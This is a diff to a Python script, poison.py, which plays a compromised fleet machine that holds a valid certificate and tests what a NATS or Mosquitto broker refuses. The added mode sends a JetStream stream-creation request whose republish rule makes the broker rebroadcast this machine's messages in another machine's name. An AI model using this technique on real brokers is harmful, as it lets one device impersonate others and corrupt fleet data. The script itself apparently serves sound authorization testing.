@@ -1,7 +1,7 @@
 """A machine of a fleet in the wrong hands: it has a certificate, and tells the broker whatever it likes.
 
-usage: poison.py nats-server|mosquitto BROKER NAME OTHER
-Prints what the broker refuses.
+usage: poison.py nats-server|nats-stream|mosquitto BROKER NAME OTHER
+Prints what the broker refuses; or creates the stream of a NATS server, and prints what that answers.
 """
 import json, socket, ssl, struct, sys, time
 
@@ -131,6 +131,23 @@ class Mqtt:
 def say(kind, body, sure=True, whose=None):
     hand.publish(kind, whose or hand.own, body if isinstance(body, bytes) else json.dumps(body).encode(), sure)
 
+
+if program == "nats-stream":
+    # A stream that has the broker say what this machine has put, in the name of another one.
+    hand = Nats()
+    stream = {
+        "name": "WARDEND", "subjects": ["wardend.1.doc.*"], "retention": "limits", "storage": "file", "discard": "old",
+        "max_msgs_per_subject": 1, "max_msg_size": 65536, "num_replicas": 1, "allow_direct": True, "max_consumers": -1,
+        "max_msgs": -1, "max_bytes": -1, "max_age": 0, "duplicate_window": 120000000000,
+        "republish": {"src": f"wardend.1.doc.{Nats.own}", "dest": f"wardend.1.new.{Nats.others}"},
+    }
+    body = json.dumps(stream).encode()
+    hand.say(f"SUB _INBOX.{Nats.own}.x 1\r\n")
+    hand.say(b"PUB $JS.API.STREAM.CREATE.WARDEND _INBOX.%s.x %d\r\n%s\r\n" % (Nats.own.encode(), len(body), body))
+    heard = b""
+    while b"stream_create_response" not in heard or not heard.endswith(b"\r\n"):
+        heard += hand.tls.recv(65536)
+    sys.exit(print(heard.decode()))
 
 hand = {"nats-server": Nats, "mosquitto": Mqtt}[program]()
 now = int(time.time())
